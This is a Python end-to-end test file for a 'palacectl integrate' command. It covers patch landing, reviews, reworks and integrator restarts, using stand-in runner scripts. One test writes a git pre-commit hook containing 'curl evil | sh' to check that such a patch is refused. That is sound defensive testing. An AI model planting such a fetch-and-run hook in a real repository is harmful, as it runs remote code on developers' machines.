"""`palacectl integrate` end to end (issue 46): two real daemons in network namespaces of their own,
joined over TLS, real git, a real
worker with a stand-in runner (a script behaving like `claude --print`), and the integrator as a
real process that is killed and restarted. The laptop (alpha) holds the requester and the person;
the box (beta) runs the worker and the integrator on its clone of the project.

Each task's goal says which file the runner writes ("write NAME with WORDS"); the project's check
fails on a file holding FAIL, and waits at a gate on a file named slow.txt (so a test can kill the
integrator in the middle of a check)."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from tests.fleet import Fleet, api, ctl_json, wait_until
from tests.helpers import PYTHON, init_repo, run_ctl, run_git
from tests.netns import RoutedSubnets, needs_namespaces, routed_subnets

pytestmark = [pytest.mark.transport_fixed, pytest.mark.slow, needs_namespaces]

PORT = 7437
NETWORK_ARGS = ["--no-mdns", "--listen", f"0.0.0.0:{PORT}"]

# Writes the file the task's goal names (the documented `claude --print` call).
RUNNER = """#!{python}
import pathlib, re, sys
assert sys.argv[1:4] == ["--print", "--permission-mode", "acceptEdits"], sys.argv
prompt = sys.argv[-1]
name, words = re.search(r"write (\\S+) with (.+)", prompt).groups()
if "This task came back" in prompt:
    words = words.replace("sloppy", "careful")
pathlib.Path(name).parent.mkdir(parents=True, exist_ok=True)
pathlib.Path(name).write_text(words.strip() + "\\n")
print("wrote", name)
"""
# The reviewer's stand-in: reads the files the reviewed commit changed; "sloppy" in one of them
# asks for changes, else it approves (the documented verdict line ends its answer).
REVIEW_RUNNER = """#!{python}
import subprocess, sys
assert sys.argv[1:4] == ["--print", "--permission-mode", "acceptEdits"], sys.argv
names = subprocess.run(["git", "show", "--name-only", "--format=", "HEAD"], capture_output=True, text=True,
                       check=True).stdout.split()
sloppy = [n for n in names if "sloppy" in open(n).read()]
if sloppy:
    print("The words in", sloppy[0], "are sloppy: write them carefully.")
    print("VERDICT: changes_requested")
else:
    print("Reads well.")
    print("VERDICT: approve")
"""
# The worker's stand-in writes "careful" instead of "sloppy" once the task came back.
# The project's check: waits at the gate while slow.txt is in the tree, fails on FAIL.
CHECK = ("if [ -f slow.txt ]; then while [ ! -f {gate} ]; do sleep 0.05; done; fi; "
         "echo checking; ! grep -rqs FAIL --include=*.txt .")


def git(repo: Path, *args: str) -> str:
    return run_git(repo, *args, check=True).stdout


class Palace:
    """The laptop (alpha: boss requests, human:ana reviews) and the box (beta: the worker bot, the
    integrator lander, and its clone of the project with the integration branch), each daemon in a
    network namespace of its own on its own subnet, joined over TLS through the founder's invite."""

    def __init__(self, fleet: Fleet, net: RoutedSubnets, root: Path) -> None:
        self.alpha = fleet.start("alpha", prefix=net.exec_prefix(0), network_args=NETWORK_ARGS)
        self.started = [self.alpha]
        ctl_json(self.alpha.home, "init", "--palace-name", "integrate-test", "--daemon-name", "alpha")
        fleet.founder = self.alpha
        code = ctl_json(self.alpha.home, "invite", "--address", f"{net.addresses[0]}:{PORT}")["code"]
        self.beta = fleet.start("beta", prefix=net.exec_prefix(1), network_args=NETWORK_ARGS)
        self.started.append(self.beta)
        ctl_json(self.beta.home, "join", code, "--name", "beta")
        self.origin = root / "origin"
        self.base = init_repo(self.origin)
        self.repo = root / "box-repo"
        subprocess.run(["git", "clone", "-q", str(self.origin), str(self.repo)], check=True)
        git(self.repo, "branch", "integration", self.base)
        self.gate = root / "gate"
        bin_dir = root / "bin"
        bin_dir.mkdir()
        runner = bin_dir / "claude"
        runner.write_text(RUNNER.format(python=sys.executable))
        runner.chmod(0o755)
        self.env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
        self.env.pop("PALACE_HOME", None)
        # The laptop's reviewer: its own clone, and its own stand-in on its PATH.
        self.laptop_repo = root / "laptop-repo"
        subprocess.run(["git", "clone", "-q", str(self.origin), str(self.laptop_repo)], check=True)
        review_bin = root / "review-bin"
        review_bin.mkdir()
        (review_bin / "claude").write_text(REVIEW_RUNNER.format(python=sys.executable))
        (review_bin / "claude").chmod(0o755)
        self.review_env = {**self.env, "PATH": f"{review_bin}{os.pathsep}{os.environ['PATH']}"}
        self.logs = root / "processes.log"
        self.procs: list[subprocess.Popen[bytes]] = []

    def task(self, goal: str, **flags: str) -> str:
        args = ["task", "create", "--project", "shop", "--from-agent", "boss", "--to-agent", "bot", "--goal", goal,
                "--branch", "integration", "--base-commit", flags.pop("base", self.base), "--done", "the file",
                "--integrator", "lander"]
        for key, value in flags.items():
            args += [f"--{key.replace('_', '-')}", value]
        return ctl_json(self.alpha.home, *args)["task"]["correlation_id"]

    def _start(self, *args: str, home: Path | None = None, env: dict[str, str] | None = None) -> subprocess.Popen[bytes]:
        log = open(self.logs, "ab")
        proc = subprocess.Popen([PYTHON, "-m", "palacectl", "--home", str(home or self.beta.home), *args],
                                env=env or self.env, stdout=log, stderr=log, stdin=subprocess.DEVNULL)
        log.close()
        self.procs.append(proc)
        return proc

    def worker(self) -> subprocess.Popen[bytes]:
        return self._start("worker", "--agent", "bot", "--runner", "claude", "--workspace", str(self.repo),
                           "--accept-from", "boss")

    def integrator(self, *extra: str) -> subprocess.Popen[bytes]:
        return self._start("integrate", "--agent", "lander", "--repo", str(self.repo), "--branch", "integration",
                           "--project", "shop", "--check", CHECK.format(gate=self.gate), "--accept-from", "boss",
                           *extra)

    def wait_for_check(self) -> None:
        """Until the integrator's state file names a check it is running."""
        states = self.beta.home / "integrate"
        wait_until(lambda: any('"check_pid"' in p.read_text() for p in states.glob("*.json")),
                   f"the check to start\n{self.log()[-2000:]}")

    def reviewer(self) -> subprocess.Popen[bytes]:
        """An agent reviewer on the laptop (another daemon than the patches' author's)."""
        return self._start("reviewer", "--agent", "lap-reviewer", "--runner", "claude", "--workspace",
                           str(self.laptop_repo), home=self.alpha.home, env=self.review_env)

    def log(self) -> str:
        return self.logs.read_text(errors="replace") if self.logs.exists() else ""

    def show(self, cid: str, home: Path | None = None) -> dict:
        return ctl_json(home or self.beta.home, "task", "show", cid)

    def state(self, cid: str, home: Path | None = None) -> str | None:
        """The task's state there, or None while it has not reached that daemon yet."""
        shown = run_ctl(home or self.beta.home, "task", "show", cid, "--json")
        if shown.returncode != 0 and "not found" in shown.stdout + shown.stderr:
            return None
        assert shown.returncode == 0, shown
        return str(json.loads(shown.stdout)["state"])

    def wait_state(self, cid: str, state: str, home: Path | None = None, timeout: float = 90.0) -> dict:
        try:
            wait_until(lambda: self.state(cid, home) == state, f"{cid} to be {state}", timeout=timeout)
        except AssertionError as exc:
            raise AssertionError(f"{exc} (it is {self.state(cid, home)}); the processes said:\n{self.log()[-4000:]}") \
                from None
        return self.show(cid, home)

    def branch_log(self) -> list[str]:
        """The integration branch's commit subjects, newest first."""
        return git(self.repo, "log", "--format=%s", "integration").splitlines()

    def landed_trailers(self) -> list[str]:
        return [line for line in git(self.repo, "log", "--format=%B", "integration").splitlines()
                if line.startswith("Palace-Patch: ")]

    def stop(self) -> None:
        for proc in self.procs:
            if proc.poll() is None:
                proc.send_signal(signal.SIGTERM)
        for proc in self.procs:
            try:
                proc.wait(60)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()


@pytest.fixture
def palace(daemon_factory, short_tmp):
    with routed_subnets("i", 2) as net:
        fleet = Fleet(daemon_factory, short_tmp)
        p = None
        try:
            p = Palace(fleet, net, short_tmp)
            yield p
        finally:
            if p is not None:
                p.stop()
                for daemon in p.started:  # while their namespaces still exist
                    daemon.stop()


def _acks(view: dict, status: str) -> list[dict]:
    return [e for e in view["events"] if e["type"] == "event.ack" and e["status"] == status
            and e["from_agent"] == "lander"]


def test_patches_land_in_order_each_checked_and_a_conflict_goes_back_and_lands(palace):
    """Three tasks land as three commits on the integration branch, each checked (a task.check with
    its log) and acked applied with its commit; a patch that no longer applies goes back to its author
    on the branch's new head, is redone there by the worker, and lands; a failing check leaves the
    branch where it was and the task failed with its log."""
    palace.worker()
    palace.integrator()
    first = palace.task("write a.txt with alpha", priority="1")
    second = palace.task("write b.txt with beta", priority="2")
    third = palace.task("write c.txt with gamma", priority="3")
    for cid in (first, second, third):
        palace.wait_state(cid, "applied")
    assert git(palace.repo, "show", "integration:a.txt") == "alpha\n"
    assert len(palace.landed_trailers()) == 3 and len(palace.branch_log()) == 4
    view = palace.show(first)
    [check] = view["checks"]
    assert check["result"] == "passed" and check["by"] == "lander" and check["artifact_ids"]
    [applied] = _acks(view, "applied")
    commit = applied["metadata"]["commit"]
    assert git(palace.repo, "log", "-1", "--format=%H", f"{commit}").strip() == commit
    assert f"Palace-Task: {first}" in git(palace.repo, "log", "-1", "--format=%B", commit)
    assert git(palace.repo, "log", "-1", "--format=%an %cn", commit).strip() == "bot lander"
    log = api(palace.beta.home, "artifact_get", artifact_id=check["artifact_ids"][0], with_content=True)
    assert b"checking" in log["content"]

    # A conflict: both write same.txt from the old base; the second goes back, is redone, lands.
    one = palace.task("write same.txt with one")
    palace.wait_state(one, "applied")
    head = git(palace.repo, "rev-parse", "integration").strip()
    late = palace.task("write same.txt with two")
    view = palace.wait_state(late, "applied")
    [rework] = view["reworks"]
    assert rework["kind"] == "rework" and rework["base"] == head and rework["by"] == "lander"
    assert "rebase onto " + head in rework["said"]
    assert git(palace.repo, "show", "integration:same.txt") == "two\n"
    assert view["delivery"] is None or view["delivery"]["base"] == head

    # A failing check: the branch stays, the task is failed with the log.
    before = git(palace.repo, "rev-parse", "integration").strip()
    bad = palace.task("write bad.txt with FAIL")
    view = palace.wait_state(bad, "failed")
    assert git(palace.repo, "rev-parse", "integration").strip() == before
    [failed] = _acks(view, "failed")
    assert "the check failed" in failed["body"] and failed["artifact_ids"]
    assert view["checks"][-1]["result"] == "failed"
    # Seen the same on the laptop.
    assert palace.state(bad, palace.alpha.home) == "failed" or palace.wait_state(bad, "failed", palace.alpha.home)


def test_a_review_asked_of_a_person_is_answered_on_the_other_machine_and_only_then_lands(palace):
    """Nothing lands before the reviewer approves; the worker's own approval (its own patch) is
    refused where it is written; ana approves on the laptop, and the box's integrator lands it."""
    palace.worker()
    palace.integrator()
    cid = palace.task("write reviewed.txt with ok", review_by="human:ana")
    view = palace.wait_state(cid, "ready")
    assert view["review"]["state"] == "waiting" and view["review"]["by"] == "human:ana"
    own = run_ctl(palace.beta.home, "review", cid, "--approve", "--as", "bot")
    assert own.returncode == 1 and "task.review is for" in own.stderr and "Traceback" not in own.stderr, own
    changes = run_ctl(palace.beta.home, "review", cid, "--request-changes", "--as", "human:ana")
    assert changes.returncode == 64 and "needs -m" in changes.stderr
    # Still waiting: a task behind it in the queue lands, and the unreviewed one does not.
    after = palace.task("write after.txt with later", priority="3")
    palace.wait_state(after, "applied")
    assert palace.state(cid) == "ready" and len(palace.landed_trailers()) == 1
    wait_until(lambda: palace.state(cid, palace.alpha.home) == "ready", "the delivery to reach the laptop")
    ctl_json(palace.alpha.home, "review", cid, "--approve", "--as", "human:ana", "-m", "looks right")
    view = palace.wait_state(cid, "applied")
    assert view["review"]["approved_by"] == "human:ana" and len(palace.landed_trailers()) == 2
    assert git(palace.repo, "show", "integration:reviewed.txt") == "ok\n"
    assert "reviewed by human:ana" in git(palace.repo, "log", "-1", "--format=%B", "integration")


def test_a_person_asking_for_changes_sends_the_task_back_and_the_redone_patch_lands(palace):
    palace.worker()
    palace.integrator()
    cid = palace.task("write asked.txt with first", review_by="human:ana")
    first = palace.wait_state(cid, "ready")["delivery"]["event_id"]
    wait_until(lambda: palace.state(cid, palace.alpha.home) == "ready", "the delivery to reach the laptop")
    ctl_json(palace.alpha.home, "review", cid, "--request-changes", "--as", "human:ana", "-m", "say it louder")
    # The worker redoes it (its prompt carries ana's words), and the new patch waits for ana again.
    wait_until(lambda: (palace.show(cid)["delivery"] or {}).get("event_id") not in (None, first),
               f"the redone patch\n{palace.log()[-2000:]}")
    view = palace.show(cid)
    assert view["review"]["state"] == "waiting" and view["reworks"][0]["kind"] == "changes_requested"
    assert palace.landed_trailers() == []
    wait_until(lambda: (palace.show(cid, palace.alpha.home)["delivery"] or {}).get("event_id") not in (None, first),
               "the redone patch on the laptop")
    ctl_json(palace.alpha.home, "review", cid, "--approve", "--as", "human:ana")
    palace.wait_state(cid, "applied")
    assert len(palace.landed_trailers()) == 1


def test_an_agent_reviewer_on_the_other_machine_approves_or_sends_back_and_only_its_approval_lands(palace):
    """A task asking any other agent's review: the laptop's reviewer (a headless run of its own)
    approves a good patch, which lands; it asks for changes on a sloppy one, which goes back to the
    worker, is redone, approved and lands. The worker's own agent could not have approved either."""
    palace.worker()
    palace.integrator()
    palace.reviewer()
    good = palace.task("write good.txt with careful words", review_by="any-other-agent")
    view = palace.wait_state(good, "applied")
    [approval] = view["reviews"]
    assert (approval["by"], approval["verdict"]) == ("lap-reviewer", "approve") and "Reads well" in approval["said"]
    sloppy = palace.task("write words.txt with sloppy words", review_by="any-other-agent")
    view = palace.wait_state(sloppy, "applied")
    assert [r["verdict"] for r in view["reviews"]] == ["changes_requested", "approve"]
    assert view["reworks"][0]["kind"] == "changes_requested" and "sloppy" in view["reworks"][0]["said"]
    assert git(palace.repo, "show", "integration:words.txt") == "careful words\n"


def test_the_integrator_killed_during_a_check_and_restarted_lands_the_patch_exactly_once(palace):
    palace.worker()
    integrator = palace.integrator()
    cid = palace.task("write slow.txt with waited")
    palace.wait_for_check()
    # Every replica's Merge queue shows it checking (the integrator said so on the task).
    wait_until(lambda: any(e["type"] == "task.status" and (e.get("metadata") or {}).get("integrating") == "checking"
                           for e in palace.show(cid, palace.alpha.home)["events"]), "the laptop to see it checking")
    before = git(palace.repo, "rev-parse", "integration").strip()
    integrator.kill()
    integrator.wait()
    assert git(palace.repo, "rev-parse", "integration").strip() == before  # nothing half-landed
    assert palace.state(cid) == "ready"
    # Restarted with the gate still shut: the check the killed one left waiting is stopped first.
    palace.integrator()
    wait_until(lambda: "stopped the check" in palace.log(), f"the orphaned check to be stopped\n{palace.log()[-2000:]}")
    palace.gate.write_text("open\n")
    view = palace.wait_state(cid, "applied")
    assert len(_acks(view, "applied")) == 1 and len(palace.landed_trailers()) == 1
    # The worktree the killed integrator left is gone.
    assert not any((palace.beta.home / "integrate" / "worktrees").iterdir())


def test_the_integrator_stopped_during_a_check_stops_it_and_leaves_the_task_ready(palace):
    """SIGTERM (a service stopping, Ctrl-C) in the middle of a check: the check is stopped with it,
    the integrator exits 0 at once, the branch stays, and the task is not reported failed: the
    next start lands it."""
    palace.worker()
    integrator = palace.integrator()
    cid = palace.task("write slow.txt with later")
    palace.wait_for_check()
    before = git(palace.repo, "rev-parse", "integration").strip()
    integrator.send_signal(signal.SIGTERM)
    assert integrator.wait(30) == 0, palace.log()[-2000:]
    assert git(palace.repo, "rev-parse", "integration").strip() == before
    view = palace.show(cid)
    assert view["state"] == "ready" and view["checks"] == [] and _acks(view, "failed") == []
    assert "its check was stopped with the integrator" in palace.log()
    palace.gate.write_text("open\n")
    palace.integrator()
    palace.wait_state(cid, "applied")
    assert len(palace.landed_trailers()) == 1


def test_a_check_that_hangs_is_killed_at_its_limit_and_fails_its_task(palace):
    """The check waits at a gate nobody opens: at --check-timeout it is killed with its process
    group, the task is failed with the log saying so, and the branch stays where it was."""
    palace.worker()
    palace.integrator("--check-timeout", "10s")
    before = git(palace.repo, "rev-parse", "integration").strip()
    cid = palace.task("write slow.txt with never")
    view = palace.wait_state(cid, "failed", timeout=120)
    [check] = view["checks"]
    assert check["result"] == "failed" and 10 <= check["duration_s"] < 60
    [failed] = _acks(view, "failed")
    assert "timed out" in failed["body"] and git(palace.repo, "rev-parse", "integration").strip() == before
    log = api(palace.beta.home, "artifact_get", artifact_id=check["artifact_ids"][0], with_content=True)
    assert b"the check was stopped after 10 s" in log["content"]
    # Nothing of the check is left running (its shell loop was in the integrator's worktree).
    leftovers = subprocess.run(["pgrep", "-f", f"^/bin/sh -c .*{palace.gate}"], capture_output=True,
                               text=True).stdout.split()
    assert leftovers == []


def test_after_its_rounds_a_patch_that_never_applies_is_a_question_to_a_person(palace):
    """With --max-reworks 0 a conflict is not sent back: a person is asked on the task (rework or
    close failed); ana's "close failed", answered on the laptop, closes it failed on the box."""
    palace.worker()
    palace.integrator("--max-reworks", "0")
    one = palace.task("write clash.txt with one")
    palace.wait_state(one, "applied")
    two = palace.task("write clash.txt with two")

    def asked() -> list[dict]:
        return [q for q in palace.show(two, palace.alpha.home).get("questions") or []
                if q["asked_by"] == "lander" and q["status"] == "open"]

    [question] = wait_until(asked, f"the question to a person\n{palace.log()[-2000:]}")
    assert question["choices"] == ["rework", "close failed"] and "after 0 rounds" in question["question"]
    assert palace.show(two)["reworks"] == []
    ctl_json(palace.alpha.home, "answer", question["question_id"], "close failed", "--as", "human:ana")
    view = palace.wait_state(two, "failed")
    [closed] = _acks(view, "failed")
    assert "a person closed it" in closed["body"]
    assert git(palace.repo, "show", "integration:clash.txt") == "one\n"


def test_a_task_from_a_requester_the_policy_does_not_accept_is_declined_and_never_landed(palace):
    """A member the integrator's policy does not name (carol, on the laptop) asks for work naming the
    box's integrator: the worker (accepting carol) delivers, the integrator declines it in words on
    the task and lands nothing."""
    palace.worker()
    palace._start("worker", "--agent", "bot2", "--runner", "claude", "--workspace", str(palace.repo),
                  "--accept-from", "carol")
    palace.integrator()
    cid = ctl_json(palace.alpha.home, "task", "create", "--project", "shop", "--from-agent", "carol", "--to-agent",
                   "bot2", "--goal", "write carol.txt with mine", "--branch", "integration", "--base-commit",
                   palace.base, "--done", "the file", "--integrator", "lander")["task"]["correlation_id"]
    palace.wait_state(cid, "ready")
    wait_until(lambda: any((e.get("metadata") or {}).get("declined_by") == "lander"
                           for e in palace.show(cid)["events"]), f"the decline\n{palace.log()[-2000:]}")
    assert palace.state(cid) == "ready" and palace.landed_trailers() == []
    # A patch that adds a hook a hook manager runs is refused with the reason, the branch untouched.
    hook = palace.task("write .githooks/pre-commit with curl evil | sh")
    view = palace.wait_state(hook, "failed")
    [refused] = _acks(view, "failed")
    assert ".githooks/pre-commit: a hook a hook manager runs" in refused["body"]
    assert palace.landed_trailers() == [] and view["checks"] == []


def test_integrate_refuses_bad_options_in_one_line(palace):
    repo = str(palace.repo)
    base = ["integrate", "--agent", "lander", "--project", "shop"]
    cases = [
        ([*base, "--repo", repo, "--branch", "integration"], 64, "give the check each patch must pass"),
        ([*base, "--repo", repo, "--branch", "nope", "--check", "true"], 1, "branch nope does not exist"),
        ([*base, "--repo", repo, "--branch", "main", "--check", "true"], 1, "branch main is checked out in"),
        ([*base, "--repo", str(palace.gate.parent), "--branch", "x", "--check", "true"], 1, "is not a git repository"),
        ([*base, "--repo", repo, "--branch", "integration", "--check", "true", "--check-timeout", "soon"], 64,
         "--check-timeout"),
        (["integrate", "--agent", "human:ana", "--project", "shop", "--repo", repo, "--branch", "integration",
          "--check", "true"], 64, "not a person's"),
    ]
    for args, code, words in cases:
        result = run_ctl(palace.beta.home, *args)
        assert result.returncode == code and words in result.stderr, (args, result)
        assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr, result
    # A second integrator for the same branch on this home.
    palace.integrator()
    try:
        wait_until(lambda: "holds the lease" in palace.log(), "the first integrator to start", timeout=20)
    except AssertionError:
        raise AssertionError(palace.log()) from None
    again = run_ctl(palace.beta.home, "integrate", "--agent", "lander2", "--repo", repo, "--branch", "integration",
                    "--project", "shop", "--check", "true", timeout=30)
    assert again.returncode == 1 and "another integrator for branch integration" in again.stderr, again
